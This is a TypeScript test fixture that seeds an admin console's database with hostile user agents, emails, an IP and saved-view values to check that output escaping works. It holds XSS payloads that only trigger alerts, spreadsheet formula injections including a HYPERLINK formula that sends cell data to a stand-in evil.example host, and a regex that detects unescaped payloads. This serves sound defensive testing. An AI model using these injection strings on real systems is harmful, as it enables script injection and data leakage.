/**
 * Hostile data for the escaping suites: user agents, emails, an IP (through X-Forwarded-For
 * behind a trusted proxy), a saved view's name and filter values that would run script or
 * formulas if anything put them into a page or a spreadsheet as they are. Every script payload
 * calls `alert('xss…')`, so a browser test can tell one from any dialog of the app's own.
 */
import { plantSession } from '../routes/helpers.js';
import type { Client, TestApp } from '../support/app.js';

export const HOSTILE_AGENTS = [
  `<script>alert('xss-ua-1')</script>Mozilla/5.0`,
  `"><img src=x onerror="alert('xss-ua-2')">`,
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `Mozilla/5.0 (X11; Linux) </td><svg onload=alert('xss-ua-3')>`,
];

/** Stored straight in the users table: registration would refuse most of them. */
export const HOSTILE_EMAILS = [
  `<img src=x onerror=alert('xss-email-1')>@evil.test`,
  `"><script>alert('xss-email-2')</script>@evil.test`,
  `=1+2@evil.test`,
  `@SUM(1+1)@evil.test`,
];

/** Goes through X-Forwarded-For into a session's IP: no spaces or commas, as one hop. */
export const HOSTILE_IP = `<svg/onload=alert('xss-ip')>`;

export const HOSTILE_FILTER = `"><script>alert('xss-filter')</script>`;
export const HOSTILE_VIEW_NAME = `<img src=x onerror=alert('xss-view')>`;

/**
 * A payload as it was written: escaping turns its quote into `&#39;` and its `<` into `&lt;`,
 * so this matches only where a hostile value reached a page unescaped.
 */
export const UNESCAPED = /alert\('xss|<script>alert|<img[ /]src=x|<svg[ /]onload|onerror="alert/i;

export interface Seeded {
  userIds: number[];
  sessionIds: string[];
}

/**
 * Users with hostile emails, each with sessions under hostile user agents (some expired, so the
 * ended tab and cleanup have them too), one user's from a hostile IP; a saved view with a
 * hostile name. (A sign-in through a trusted proxy with a hostile X-Forwarded-For is the test's.)
 */
export async function seedHostile(t: TestApp, su: Client): Promise<Seeded> {
  const userIds: number[] = [];
  const sessionIds: string[] = [];
  for (const [i, email] of HOSTILE_EMAILS.entries()) {
    // The third signs in and acts in the console, so the audit log has a hostile actor.
    const role = i === 2 ? 'superuser' : 'user';
    const row = await t.createUser(email, role, i === 0 ? 'pending' : 'approved');
    userIds.push(Number(row.id));
    for (const [j, userAgent] of HOSTILE_AGENTS.entries()) {
      const s = await plantSession(t, Number(row.id), {
        userAgent,
        ip: i === 1 ? HOSTILE_IP : `203.0.113.${i * 10 + j}`,
        expired: j === 3,
      });
      sessionIds.push(s.id);
    }
  }
  await su.postJson('/admin/saved-views', {
    page: 'sessions',
    name: HOSTILE_VIEW_NAME,
    query: 'status=active',
  });
  return { userIds, sessionIds };
}
